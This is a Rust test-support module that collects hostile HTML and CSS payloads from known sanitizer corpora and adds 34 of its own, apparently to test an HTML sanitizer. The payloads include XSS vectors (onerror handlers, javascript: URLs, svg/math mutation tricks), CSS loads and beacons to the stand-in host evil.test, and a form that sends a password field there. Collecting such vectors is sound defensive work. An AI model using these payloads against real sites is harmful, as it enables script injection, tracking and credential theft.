//! HTML that was written to do harm.

use super::files;
use serde_json::Value;

pub struct Vector {
    pub name: String,
    pub html: String,
}

/// The vectors of the corpus, and our own.
pub fn all() -> Option<Vec<Vector>> {
    let corpus = files::corpus()?.join("html");
    let mut vectors = own();
    for set in ["ammonia", "bluemonday", "loofah", "owasp-filter-evasion"] {
        let text = std::fs::read(corpus.join(set).with_extension("json")).expect("vectors");
        let list: Vec<Value> = serde_json::from_slice(&text).expect("a list");
        for (place, vector) in list.iter().enumerate() {
            let payload = vector["payload"].as_str().expect("a payload");
            let times = vector["repeat"].as_u64().and_then(|n| n.try_into().ok()).unwrap_or(1);
            let name = format!("{set} {place} {}", vector["note"].as_str().unwrap_or_default());
            vectors.push(Vector { name, html: payload.repeat(times) });
        }
    }
    for entry in std::fs::read_dir(corpus.join("roundcube")).expect("roundcube") {
        let path = entry.expect("an entry").path();
        let bytes = std::fs::read(&path).expect("a file");
        let html = String::from_utf8_lossy(&bytes).into_owned();
        let name = format!("roundcube {}", path.display());
        if path.extension().is_some_and(|end| end == "css") {
            vectors.push(Vector { name, html: format!("<style>{html}</style><p>x</p>") });
        } else {
            vectors.push(Vector { name, html });
        }
    }
    Some(vectors)
}

/// One for each class in SECURITY.md that is about HTML and CSS.
fn own() -> Vec<Vector> {
    OWN.iter()
        .map(|html| Vector { name: format!("own {html}"), html: (*html).to_owned() })
        .collect()
}

const OWN: [&str; 34] = [
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)><use href='data:image/svg+xml,x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import url(http://evil.test/a.css);@import 'http://evil.test/b.css';p{color:red}</style>",
    "<style>p{background:url(http://evil.test/x</style><p>after",
    "<style>p{background:\\75\\72\\6c(http://evil.test/x)}</style>",
    "<style>:root{--x:url(http://evil.test/a)} p{background:var(--x)}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.test/f)} p{font-family:x}</style>",
    "<style>p{position:fixed !important;top:0;left:0;width:100vw;height:100vh}</style>",
    "<div style='position:absolute;top:0'>x</div><div style='margin-left:-9999px'>y</div>",
    "<div style='background:image-set(\"http://evil.test/x\" 1x)'>x</div>",
    "<div style='background-image:-webkit-image-set(url(http://evil.test/y) 1x)'>x</div>",
    "<div style='width:expression(alert(1));-moz-binding:url(http://evil.test/x#y);behavior:url(x.htc)'>x</div>",
    "<div style=\"content:url(http://evil.test/1);list-style:url(http://evil.test/2);cursor:url(http://evil.test/3)\">x</div>",
    "<style>p::before{content:attr(title) '</style><img src=x onerror=alert(1)>'}</style>",
    "<style media='print){} </style><script>alert(1)</script>'>p{color:red}</style>",
    "<style media='screen{}p{background:url(http://evil.test/m)}'>p{color:red}</style>",
    "<style>p{color:red}}@media screen{p{background:url(//evil.test/n)}}</style>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
    "<body background='http://evil.test/b' style='background:url(http://evil.test/c)' onload=alert(1)>x",
    "<body bgcolor='red\" onload=alert(1) x=\"' text='blue;background:url(http://evil.test/d)'>x",
    "<table background='//evil.test/t'><td background=\"javascript:alert(1)\">x</td></table>",
    "<img src=x srcset='http://evil.test/s 2x' lowsrc=http://evil.test/l dynsrc=http://evil.test/d>",
    "<picture><source srcset=http://evil.test/p><img src=cid:nobody></picture><video poster=http://evil.test/v>",
    "<link rel=stylesheet href=http://evil.test/l.css><base href=http://evil.test/><meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<a href=' &#1;java&#10;script:alert(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a><a href='vbscript:x'>z</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html;base64,AAAA'><img src='data:image/png;base64,AAAA\"onerror=alert(1)'>",
    "<iframe src=http://evil.test/i srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=http://evil.test/f><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<plaintext><script>alert(1)</script>",
];
